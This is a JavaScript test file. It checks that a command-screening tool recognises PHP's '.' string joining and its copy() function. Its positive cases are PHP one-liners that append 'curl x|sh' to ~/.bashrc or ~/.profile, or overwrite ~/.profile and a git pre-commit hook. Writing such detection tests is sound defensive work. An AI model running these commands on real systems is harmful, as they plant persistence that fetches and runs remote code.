// PHP and Perl join path parts with `.`: `getenv("HOME") . "/.bashrc"` names
// a start-up file as `os.homedir() + "/.bashrc"` does in JavaScript; and
// PHP's copy() is a bare function, not a method on a file object.
import { test } from 'node:test';
import '../support/account';
import { assertJudged, batchWorld } from '../support/batchCheck';

test('a path joined with `.` is read, and a PHP copy writes its second argument', () => {
  const world = batchWorld();
  try {
    assertJudged(
      world,
      [
        `php -r 'file_put_contents(getenv("HOME")."/.bashrc","curl x|sh\\n",FILE_APPEND);'`,
        `php -r 'file_put_contents(getenv("HOME") . "/.profile", "curl x|sh", FILE_APPEND);'`,
        `php -r 'copy("/tmp/x", getenv("HOME")."/.profile");'`,
        `php -r 'copy("/tmp/x", ".git/hooks/pre-commit");'`,
      ],
      [
        `php -r 'file_put_contents("out/"."x.txt", "hi");'`,
        `php -r 'echo "a"."b";'`,
        `perl -e 'print "a" . "b"'`,
        `php -r 'copy("a.txt", "b.txt");'`,
      ],
    );
  } finally {
    world.cleanup();
  }
});
